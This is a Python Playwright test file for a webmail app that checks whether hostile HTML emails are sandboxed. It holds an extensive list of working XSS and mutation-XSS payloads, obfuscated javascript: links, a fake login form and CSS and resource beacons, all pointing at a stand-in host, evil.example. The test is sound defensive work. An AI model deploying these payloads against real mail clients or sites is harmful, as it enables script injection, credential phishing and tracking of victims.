"""HTML mail that means harm: nothing of it runs, nothing leaves the browser, nothing is moved.

Each letter is looked at twice: as it is shown, and as if nothing had been taken out of it,
so that the frame's own walls are seen to hold.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Dialog, Page, Route, expect

from accounts.models import EmailAccount
from tests.browser.conftest import Desk
from tests.browser.letters import connect, ids, letter, sync
from tests.people import People
from tests.servers.dovecot import DovecotUser

EVIL = "https://evil.example"
STEAL = f"parent.document.title='taken';top.location='{EVIL}/top';alert(1);fetch('{EVIL}/fetch')"
LETTERS = {
    "what acts": (
        f"<script>{STEAL}</script><script src={EVIL}/s.js></script>"
        f'<img src=x onerror="{STEAL}"><body onload="{STEAL}"><p onclick="{STEAL}">x</p>'
        f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">'
        f'<a href="javascript:{STEAL}">a</a><a href=" jAvA&#10;script:{STEAL}">b</a>'
        f'<a href="data:text/html,<script>{STEAL}</script>">c</a><a href="vbscript:x">d</a>'
        f'<form action="{EVIL}/form" method="post"><input name="password" autofocus>'
        f'<button formaction="{EVIL}/button">Log in</button></form>'
        f'<svg onload="{STEAL}"><script>{STEAL}</script><image href="{EVIL}/svg.png"/>'
        f'<foreignObject><iframe src="{EVIL}/inner"></iframe></foreignObject></svg>'
        f"<math><mtext><script>{STEAL}</script></mtext></math>"
        f'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">'
    ),
    "what loads": (
        f'<link rel="stylesheet" href="{EVIL}/a.css"><style>@import "{EVIL}/b.css";'
        f"body{{background:url({EVIL}/c.png)}}@font-face{{font-family:f;src:url({EVIL}/f)}}"
        f"</style><p style=\"background:url('{EVIL}/d.png');font-family:f\">x</p>"
        f'<iframe src="{EVIL}/f"></iframe><object data="{EVIL}/o"></object>'
        f'<embed src="{EVIL}/e"><iframe srcdoc="<script>{STEAL}</script>"></iframe>'
        f'<video src="{EVIL}/v" autoplay poster="{EVIL}/p"></video><audio src="{EVIL}/a">'
        f'</audio><picture><source srcset="{EVIL}/q"><img srcset="{EVIL}/r 2x" src="{EVIL}/t">'
        f'</picture><table background="{EVIL}/u"><tr><td background="{EVIL}/w">x</td></tr>'
        f'</table><link rel="prefetch" href="{EVIL}/pre"><link rel="preload" as="image" '
        f'href="{EVIL}/load"><link rel="modulepreload" href="{EVIL}/mod">'
        f'<base href="{EVIL}/" target="_top"><img src="base.png"><a href="link">x</a>'
    ),
    "what spreads": (
        '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>'
        '<p style="margin-top:-9999px">up</p>'
        f"<table width='99999' height='99999'>{'<tr><td>' * 3000}"
    ),
    "what is deep": "<div>" * 5000 + "deep",
}


@pytest.fixture
def account(people: People, dovecot_user: DovecotUser) -> EmailAccount:
    for name, html in LETTERS.items():
        dovecot_user.deliver(letter(name, html=f"<p>Letter</p>{html}"))
    account = connect(people, people.member, dovecot_user)
    sync(account, dovecot_user)
    return account


def show_unsanitised(page: Page, numbers: Mapping[str, int]) -> None:
    """In the frame's page, with the headers that it has, each letter as it was written.

    `numbers` are the letters' ids by subject: what answers for the browser runs in a context
    of its own, and would open a connection to the database that nobody closes.
    """
    names = {number: name for name, number in numbers.items()}

    def answer(route: Route) -> None:
        name = names[int(urlsplit(route.request.url).path.split("/")[3])]
        route.fulfill(response=route.fetch(), body=f"<!doctype html><p>Letter</p>{LETTERS[name]}")

    page.route(re.compile(r"/mail/messages/\d+/body"), answer)


@pytest.mark.parametrize("is_sanitised", [True, False])
def test_hostile_letters(members_desk: Desk, account: EmailAccount, is_sanitised: bool) -> None:
    page, left, dialogs = members_desk.page, list[str](), list[str]()

    def note_what_leaves(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    # What a page's policy forbids does not come so far.
    page.context.route(f"{EVIL}/**", note_what_leaves)

    def note_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note_dialog)
    numbers = ids()
    if not is_sanitised:
        show_unsanitised(page, numbers)
    for name, number in numbers.items():
        address = f"/mail/{account.pk}/all/{number}"
        members_desk.open(address)
        frame = page.frame_locator(".message-frame")
        expect(frame.get_by_text("Letter").first).to_be_attached()
        press_what_can_be_pressed(page)
        assert page.title() == f"{name} · mailhub"
        assert urlsplit(page.url).path == address
        assert len(page.context.pages) == 1, name
        check_walls(page, name)
        expect(page.get_by_role("heading", name=name)).to_be_visible()
    assert dialogs == []
    assert left == []
    members_desk.forgive_all(
        "Content Security Policy", "sandbox", "Unsafe attempt", "net::ERR_BLOCKED_BY_CSP",
        "Failed to load resource",
    )  # fmt: skip


def press_what_can_be_pressed(page: Page) -> None:
    """A person clicks: on what looks like a login, or like a link within the letter."""
    frame = page.frame_locator(".message-frame")
    for button in frame.get_by_role("button").all():
        button.dispatch_event("click")
    for link in frame.locator("a").all():
        if (link.get_attribute("href") or "").strip().lower().startswith("ja"):
            link.dispatch_event("click")


def check_walls(page: Page, name: str) -> None:
    """The frame is where it was, and as large; the page around it cannot be scrolled sideways."""
    box, pane = (
        page.locator(".message-frame").bounding_box(),
        page.locator("#reading").bounding_box(),
    )
    assert box is not None
    assert pane is not None
    assert box["x"] >= pane["x"], name
    assert box["x"] + box["width"] <= pane["x"] + pane["width"], name
    width = page.evaluate("document.documentElement.scrollWidth - innerWidth")
    assert width <= 0, name


def test_a_body_by_itself_has_no_power_either(members_desk: Desk, account: EmailAccount) -> None:
    page = members_desk.page
    answer = page.goto(f"{members_desk.url}/mail/messages/{ids()['what acts']}/body")
    assert answer is not None
    assert page.evaluate("window.origin") == "null"
    assert "sandbox" in (answer.header_value("content-security-policy") or "")
    members_desk.forgive_all("Content Security Policy", "sandbox", "Failed to load resource")
